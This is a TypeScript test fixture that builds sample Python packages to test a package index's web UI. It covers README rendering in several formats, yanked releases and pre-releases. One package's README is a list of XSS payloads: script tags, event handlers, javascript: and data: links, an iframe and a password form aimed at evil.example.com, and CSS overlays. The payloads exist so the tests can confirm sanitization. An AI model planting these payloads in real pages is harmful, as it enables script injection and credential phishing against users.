// A package root for the web UI tests: real wheels and an sdist (written with Python's zipfile /
// tarfile) whose metadata exercises what a project page shows: a Markdown README with a table,
// fenced code, a badge and links; reStructuredText and plain descriptions; a yanked release; a
// pre-release; project URLs, classifiers, dependencies; and a README full of hostile HTML.

import { promises as fsp } from 'node:fs';
import path from 'node:path';
import { metadataText, writeTarGz, writeWheel } from './archives.js';
import { tempDir } from './server.js';
import { eventually } from './upload.js';

export const ACME_README = `# Acme Widgets

[![build](https://img.shields.io/badge/build-passing-brightgreen)](https://ci.example.com/acme)

Widgets for **every** occasion. See the [documentation](https://docs.example.com/acme).

## Usage

\`\`\`python
from acme_widgets import Widget
Widget("gear").spin(times=3)
\`\`\`

| Widget | Teeth | Material |
|--------|------:|----------|
| gear   | 32    | steel    |
| cog    | 12    | brass    |

- ~~old API~~ removed in 2.0
- works offline
`;

/** Markers set by hostile content if it ever ran (the browser tests check they never are). */
export const HOSTILE_README = `# Totally normal package

<script>window.__pwned = 'script';</script>
<img src="x" onerror="window.__pwned = 'onerror'">
<img src="https://img.example.com/ok.png" alt="remote image" onload="window.__pwned = 'onload'">
<a href="javascript:window.__pwned='js-link'">click me</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="https://example.com/docs" target="_blank">safe link</a>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">styled paragraph</p>
<style>body { display: none; }</style>
<iframe src="https://evil.example.com/"></iframe>
<svg><script>window.__pwned = 'svg'</script><circle r="10" onload="window.__pwned = 'svg-onload'"/></svg>
<form action="https://evil.example.com/"><input name="password"><button>Log in</button></form>
<object data="https://evil.example.com/x.swf"></object>
<details open ontoggle="window.__pwned = 'ontoggle'"><summary>more</summary>hidden text</details>

[markdown js link](javascript:alert(1))

![markdown data image](data:image/png;base64,iVBORw0KGgo=)
`;

export const RST_README = `Rusty Tool
==========

A tool documented in *reStructuredText*.

.. code-block:: bash

   rusty --help
`;

function acmeMetadata(version: string): string {
  return metadataText(
    [
      ['Metadata-Version', '2.4'],
      ['Name', 'Acme.Widgets'],
      ['Version', version],
      ['Summary', 'Widgets and gears for the whole team'],
      ['Keywords', 'gears,machinery'],
      ['Author', 'Ada Lovelace'],
      ['Author-email', 'Ada Lovelace <ada@example.com>'],
      ['License-Expression', 'MIT'],
      ['Project-URL', 'Homepage, https://acme.example.com'],
      ['Project-URL', 'Source, https://git.example.com/acme/widgets'],
      ['Project-URL', 'Evil, javascript:alert(1)'],
      ['Classifier', 'Development Status :: 5 - Production/Stable'],
      ['Classifier', 'Programming Language :: Python :: 3'],
      ['Classifier', 'Programming Language :: Python :: 3.12'],
      ['Requires-Python', '>=3.9'],
      ['Requires-Dist', 'requests>=2.28'],
      ['Requires-Dist', 'rich; extra == "cli"'],
      ['Provides-Extra', 'cli'],
      ['Description-Content-Type', 'text/markdown; charset=UTF-8; variant=GFM'],
    ],
    ACME_README.replace('Widgets for', `Version ${version}. Widgets for`),
  );
}

function simpleMetadata(name: string, version: string, summary: string, extra: [string, string][] = [], body?: string): string {
  return metadataText([['Metadata-Version', '2.1'], ['Name', name], ['Version', version], ['Summary', summary], ...extra], body);
}

export interface UiFixture {
  root: string;
}

/**
 * Projects (normalized name: what they show):
 * - acme-widgets (Acme.Widgets): 1.0.0, 1.1.0 (yanked "broken import"), 1.2.0 (latest, wheel +
 *   sdist), 2.0.0rc1 (pre-release); Markdown README, full metadata.
 * - hostile-readme: a README of hostile HTML.
 * - rusty-tool: reStructuredText README. plain-notes: text/plain README with <b>tags</b>.
 * - no-readme: no description at all. gear-box: summary mentions "widgets", keyword "sprockets".
 */
export async function makeUiFixture(): Promise<UiFixture> {
  const root = await tempDir('pypi-lite-ui-');
  for (const v of ['1.0.0', '1.1.0', '1.2.0', '2.0.0rc1']) await writeWheel(root, 'Acme.Widgets', v, acmeMetadata(v));
  await writeTarGz(path.join(root, 'acme_widgets-1.2.0.tar.gz'), [
    ['acme_widgets-1.2.0/PKG-INFO', acmeMetadata('1.2.0')],
    ['acme_widgets-1.2.0/pyproject.toml', '[project]\nname = "Acme.Widgets"\n'],
  ]);
  await writeWheel(root, 'hostile-readme', '0.1', simpleMetadata('hostile-readme', '0.1', 'Nothing to see here', [['Description-Content-Type', 'text/markdown']], HOSTILE_README));
  await writeWheel(root, 'rusty-tool', '3.1.4', simpleMetadata('rusty-tool', '3.1.4', 'A tool with an rst README', [['Description-Content-Type', 'text/x-rst']], RST_README));
  await writeWheel(root, 'plain-notes', '1.0', simpleMetadata('plain-notes', '1.0', 'Plain text notes', [['Description-Content-Type', 'text/plain']], 'Line one <b>not bold</b>\n  indented line two\n'));
  await writeWheel(root, 'no-readme', '0.0.1', simpleMetadata('no-readme', '0.0.1', 'A project without a description'));
  await writeWheel(root, 'gear-box', '0.5', simpleMetadata('gear-box', '0.5', 'A box to keep widgets in', [['Keywords', 'storage, sprockets']]));
  await fsp.writeFile(path.join(root, 'yanked.txt'), 'acme-widgets==1.1.0 broken import\n');
  // Distinct modification times: most recently updated first on the home page.
  const order = ['no_readme-0.0.1', 'plain_notes-1.0', 'rusty_tool-3.1.4', 'gear_box-0.5', 'hostile_readme-0.1'];
  const base = Date.parse('2026-03-01T10:00:00Z') / 1000;
  let i = 0;
  for (const name of (await fsp.readdir(root)).sort()) {
    if (name === 'yanked.txt') continue;
    const rank = order.findIndex((o) => name.startsWith(o));
    const t = rank >= 0 ? base + rank * 86400 : base + 10 * 86400 + i++ * 3600;
    await fsp.utimes(path.join(root, name), t, t);
  }
  return { root };
}

/** Wait until the UI's background summary loader has seen every project (home page shows them). */
export async function waitForSummaries(url: string, headers: Record<string, string> = {}): Promise<void> {
  const ok = await eventually(async () => {
    const body = await (await fetch(`${url}/`, { headers })).text();
    return ['Widgets and gears', 'Nothing to see here', 'rst README', 'Plain text notes', 'without a description', 'keep widgets'].every((s) => body.includes(s));
  }, 10_000);
  if (!ok) throw new Error('the UI never showed every summary');
}
